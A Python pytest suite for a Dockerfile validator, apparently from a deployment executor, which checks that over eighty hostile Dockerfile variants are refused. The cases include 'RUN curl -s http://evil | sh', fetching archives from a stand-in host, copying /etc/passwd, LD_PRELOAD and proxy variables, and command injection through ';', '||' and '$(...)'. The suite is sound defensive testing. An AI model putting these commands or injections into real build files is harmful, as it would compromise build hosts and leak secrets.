"""A droplet's Dockerfile is read or refused; what is refused is never given to docker."""

from pathlib import Path

import pytest

from executor.agent.template import render_template
from executor.domain.droplet import DropletIdentity
from executor.errors import ReleaseAtFault
from executor.targets.dockerfile import read_dockerfile
from tests.proof.ledger import Ledger

THREAT = "hostile Dockerfile"

PIP = "pip install --no-cache-dir --only-binary :all: -r requirements.txt"
GOOD = f"""\
FROM python:3.11-slim
WORKDIR /srv
COPY requirements.txt ./
RUN {PIP} && useradd --uid 10001 --no-create-home --shell /usr/sbin/nologin droplet
LABEL droplet.id="7"
ENV SERVICE_PORT="8007"
COPY app ./app
USER droplet
VOLUME ["/data"]
EXPOSE 8007
HEALTHCHECK --interval=30s CMD ["python", "-c", "pass"]
CMD ["python", "app/main.py"]
"""


def read(tmp_path: Path, text: str | bytes):
    (tmp_path / "Dockerfile").write_bytes(text if isinstance(text, bytes) else text.encode())
    return read_dockerfile(tmp_path)


def after(anchor: str, line: str) -> str:
    """The good file with one more line after the one that begins so."""
    lines = GOOD.splitlines()
    at = next(number for number, found in enumerate(lines, 1) if found.startswith(anchor))
    return "\n".join([*lines[:at], line, *lines[at:]]) + "\n"


def with_(old: str, new: str) -> str:
    assert GOOD.count(old) >= 1
    return GOOD.replace(old, new, 1)


HOSTILE = {
    "a syntax that is fetched": (f"# syntax=evil/frontend:1\n{GOOD}", 1),
    "another sign of escape": (f"#escape=`\n{GOOD}", 1),
    "checks switched off": (f"# check = skip=all\n{GOOD}", 1),
    "another base": (with_("python:3.11-slim", "evil/python:3.11-slim"), 1),
    "a base of another registry": (with_("python:", "registry.evil/python:"), 1),
    "a base by a variable": (f"ARG BASE=evil\n{with_('python:3.11-slim', '${BASE}')}", 1),
    "a named stage": (with_("slim", "slim AS build"), 1),
    "another platform": (with_("FROM", "FROM --platform=linux/arm64"), 1),
    "a second stage": (after("COPY app", "FROM python:3.12-slim"), 13),
    "an argument": (after("WORKDIR", "ARG PIP_INDEX_URL"), 3),
    "a trigger": (after("COPY app", "ONBUILD RUN id"), 8),
    "another shell": (after("WORKDIR", 'SHELL ["/bin/evil", "-c"]'), 3),
    "an added address": (after("COPY app", "ADD http://evil/x.tar.gz ./"), 8),
    "an entry point": (after("COPY app", 'ENTRYPOINT ["evil"]'), 8),
    "another signal": (after("COPY app", "STOPSIGNAL SIGKILL"), 8),
    "a command of its own": (after("RUN", "RUN curl -s http://evil | sh"), 5),
    "a command behind an allowed one": (with_("droplet\nLABEL", "droplet ; id\nLABEL"), 4),
    "a command beside an allowed one": (with_("droplet\nLABEL", "droplet & id\nLABEL"), 4),
    "a command after a pipe": (with_("droplet\nLABEL", "droplet || id\nLABEL"), 4),
    "a substitution": (with_("10001", "$(id -u)"), 4),
    "packages built from source": (with_("--only-binary :all: ", ""), 4),
    "another index": (with_(" -r requirements", " --index-url http://evil/ -r requirements"), 4),
    "a mount in a build": (with_("RUN pip", "RUN --mount=type=bind,source=/,target=/host pip"), 4),
    "the host's network in a build": (with_("RUN pip", "RUN --network=host pip"), 4),
    "an insecure build": (with_("RUN pip", "RUN --security=insecure pip"), 4),
    "a list as a command": (after("RUN", 'RUN ["sh", "-c", "id"]'), 5),
    "a document in a command": (after("RUN", "RUN <<EOF\nid\nEOF"), 5),
    "a document as a file": (after("COPY app", "COPY <<EOF ./x\nid\nEOF"), 8),
    "an absolute target": (after("COPY app", "COPY app /etc"), 8),
    "an absolute source": (after("COPY app", "COPY /etc/passwd ./"), 8),
    "a source above": (after("COPY app", "COPY ../secrets ./"), 8),
    "a target above": (after("COPY app", "COPY app ./x/../../etc"), 8),
    "a copy from an image": (after("COPY app", "COPY --from=evil /x ./x"), 8),
    "another owner": (after("COPY app", "COPY --chown=root:root app ./y"), 8),
    "a list of paths": (after("COPY app", 'COPY ["app", "/etc"]'), 8),
    "a pattern": (after("COPY app", "COPY * ./"), 8),
    "a hidden file": (after("COPY app", "COPY .env ./"), 8),
    "a variable in a path": (after("COPY app", "COPY $HOME ./"), 8),
    "a target above, hidden by a continued line": (after("WORKDIR", "COPY app .\\\n./usr/local/bin"), 3),
    "a path that never ends": (after("COPY app", f"COPY {'a' * 5000}! ./"), 8),
    "files of the repository before RUN": (after("WORKDIR", "COPY app ./app"), 3),
    "other requirements before RUN": (after("COPY requirements", "COPY evil.txt ./requirements.txt"), 4),
    "an archive that a requirement names": (after("COPY requirements", "COPY evil.tar.gz ./"), 4),
    "a variable before RUN": (after("WORKDIR", 'ENV OPENSSL_CONF="/srv/evil.cnf"'), 3),
    "another user": (with_("USER droplet", "USER root"), 8),
    "a user by number": (with_("USER droplet", "USER 0"), 8),
    "a user with a root group": (with_("USER droplet", "USER droplet:root"), 8),
    "no user": (with_("USER droplet\n", ""), 11),
    "a second user": (after("USER", "USER droplet"), 13),
    "a command as root after the user": (after("USER", f"RUN {PIP}"), 8),
    "files after the user": (after("USER", "COPY app ./z"), 8),
    "a volume over programs": (with_('["/data"]', '["/usr"]'), 9),
    "two volumes": (with_('["/data"]', '["/data", "/etc"]'), 9),
    "a low port": (with_("EXPOSE 8007", "EXPOSE 22"), 10),
    "a range of ports": (with_("EXPOSE 8007", "EXPOSE 8000-9000"), 10),
    "a port that there is not": (with_("EXPOSE 8007", "EXPOSE 99999"), 10),
    "another directory": (with_("WORKDIR /srv", "WORKDIR /usr/local/bin"), 2),
    "a path of programs": (after("LABEL", 'ENV PATH="/srv/app"'), 6),
    "a library that is loaded first": (after("LABEL", 'ENV LD_PRELOAD="/srv/x.so"'), 6),
    "a module that is loaded first": (after("LABEL", 'ENV PYTHONSTARTUP="/srv/x.py"'), 6),
    "a proxy": (after("LABEL", 'ENV HTTPS_PROXY="http://evil"'), 6),
    "a secret": (after("LABEL", 'ENV API_KEY="abc"'), 6),
    "a password": (after("LABEL", 'ENV DB_PASSWORD="abc"'), 6),
    "a variable in a value": (after("LABEL", 'ENV COPIED="$HOSTNAME"'), 6),
    "the old form of a variable": (after("LABEL", "ENV SOME value"), 6),
    "a value that is not closed": (after("LABEL", 'ENV SOME="value'), 6),
    "a label of the executor": (after("LABEL", 'LABEL fpai.release="r1"'), 6),
    "the same in capitals": (after("LABEL", 'LABEL FPAI.owner="x"'), 6),
    "a check by a shell": (with_('["python", "-c", "pass"]', "curl http://evil"), 11),
    "no check": (with_('HEALTHCHECK --interval=30s CMD ["python", "-c", "pass"]', "HEALTHCHECK NONE"), 11),
    "an unknown option of a check": (with_("--interval=30s", "--interval=1ms"), 11),
    "a command by a shell": (with_('["python", "app/main.py"]', "python app/main.py"), 12),
    "an empty command": (with_('["python", "app/main.py"]', "[]"), 12),
    "a command of numbers": (with_('["python", "app/main.py"]', "[1]"), 12),
    "a word in small letters": (after("COPY app", "run id"), 8),
    "an instruction behind a tab": (after("COPY app", "RUN\tid"), 8),
    "an instruction that a continued line hides": (after("COPY app", "RU\\\nN id"), 8),
    "a comment in a continued line": (after("COPY app", "COPY app \\\n# more\n./q"), 9),
    "an empty line in a continued one": (after("COPY app", "COPY app \\\n\n./q"), 9),
    "an end that is missing": (GOOD + "LABEL a=b \\", 13),
    "a carriage return": (with_("WORKDIR /srv", "WORKDIR /srv\r"), 2),
    "a user in a line that only we would see": (with_("USER droplet", "# x\rUSER droplet"), 8),
    "a zero byte": (with_("WORKDIR /srv", "WORKDIR /srv\0"), 2),
    "a form feed": (with_("COPY app", "COPY\fapp"), 7),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_dockerfile_is_refused_with_its_line(what: str, tmp_path: Path, ledger: Ledger):
    text, line = HOSTILE[what]
    with pytest.raises(ReleaseAtFault, match=f"Dockerfile, line {line}: .*; the image was not built"):
        read(tmp_path, text)
    ledger.tried("hostile Dockerfiles", threat=THREAT)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("\ufeff" + GOOD, "only ASCII"),
        (with_("app/main.py", "app/m\u0430in.py"), "only ASCII"),
        (with_("WORKDIR /srv", "WORKDIR /srv\u2028RUN id"), "only ASCII"),
        (GOOD.encode() + b"\xff", "only ASCII"),
        (GOOD + "#" * (17 << 10), "longer than 16 KiB"),
        ("", "FROM has to be the first"),
        ("# nothing\n", "FROM has to be the first"),
        (with_("FROM python:3.11-slim\n", ""), "FROM has to be the first"),
    ],
    ids=["byte order", "alike letter", "hidden line", "no text", "long", "empty", "comment", "late"],
)  # fmt: skip
def test_what_is_no_plain_dockerfile_is_refused(
    content: str | bytes, said: str, tmp_path: Path, ledger: Ledger
):
    with pytest.raises(ReleaseAtFault, match=said):
        read(tmp_path, content)
    ledger.tried("hostile Dockerfiles", threat=THREAT)


def test_a_dockerfile_that_is_missing_or_a_link_is_refused(tmp_path: Path, ledger: Ledger):
    with pytest.raises(ReleaseAtFault, match="there is no such file"):
        read_dockerfile(tmp_path)
    (tmp_path / "other").write_text(GOOD)
    (tmp_path / "Dockerfile").symlink_to("other")
    with pytest.raises(ReleaseAtFault, match="there is no such file"):
        read_dockerfile(tmp_path)
    ledger.tried("hostile Dockerfiles", 2, threat=THREAT)


def test_the_template_of_every_droplet_is_accepted(tmp_path: Path):
    identity = DropletIdentity(id=21, name="library", version="0.1.0", purpose="Books", port=8021)
    render_template(identity, created="2026-01-01", into=tmp_path)
    found = read_dockerfile(tmp_path)
    assert (found.base, found.has_healthcheck) == ("python:3.11-slim", True)


def test_other_values_in_the_allowed_forms_are_accepted(tmp_path: Path):
    text = with_("SERVICE_PORT", "GREETING").replace('8007"\nCOPY', 'good day"\nCOPY', 1)
    text = text.replace('CMD ["python", "app', 'CMD  ["uvicorn", "app', 1)
    text = text.replace('LABEL droplet.id="7"', 'LABEL droplet.id="7" \\\n      droplet.writable_root="true"')
    assert read(tmp_path, text).base == "python:3.11-slim"
    assert read(tmp_path, GOOD.replace("3.11-slim", "3.12-slim-bookworm")).base == "python:3.12-slim-bookworm"
    assert not read(
        tmp_path, with_('HEALTHCHECK --interval=30s CMD ["python", "-c", "pass"]\n', "")
    ).has_healthcheck
